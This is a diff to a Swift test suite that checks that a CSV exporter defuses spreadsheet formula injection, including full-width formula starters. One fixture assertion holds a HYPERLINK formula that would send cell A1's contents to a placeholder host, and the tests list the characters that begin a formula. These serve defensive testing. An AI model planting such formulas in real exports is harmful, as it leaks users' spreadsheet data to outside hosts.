@@ -118,12 +118,18 @@ import Testing
         #expect(cells.count > 9)
         let live = cells.filter { cell in
             guard let first = cell.unicodeScalars.first else { return false }
-            return ["=", "+", "-", "@", "\t", "\r"].contains(first)
+            return ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"].contains(first)
         }
         #expect(live.isEmpty, "live formulas: \(live.prefix(5))")
         if fixture == "csv-formulas" {
             #expect(cells.contains("'=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"), "the echoed formula is present, defused")
         }
+    }
+
+    @Test("full-width formula starters are defused too, and nothing else is")
+    func fullWidthFormulaStarters() {
+        for text in ["＝1+1", "＋1", "－1", "＠SUM(A1)"] { #expect(ActionListCSV.cell(text) == "'" + text) }
+        for text in ["1＝1", "'＝1", "E-1", "\u{200B}=1"] { #expect(ActionListCSV.cell(text) == text) }
     }
 
     @Test("--redact leaves no victim or suspect name from the html-everywhere bundle in any format")
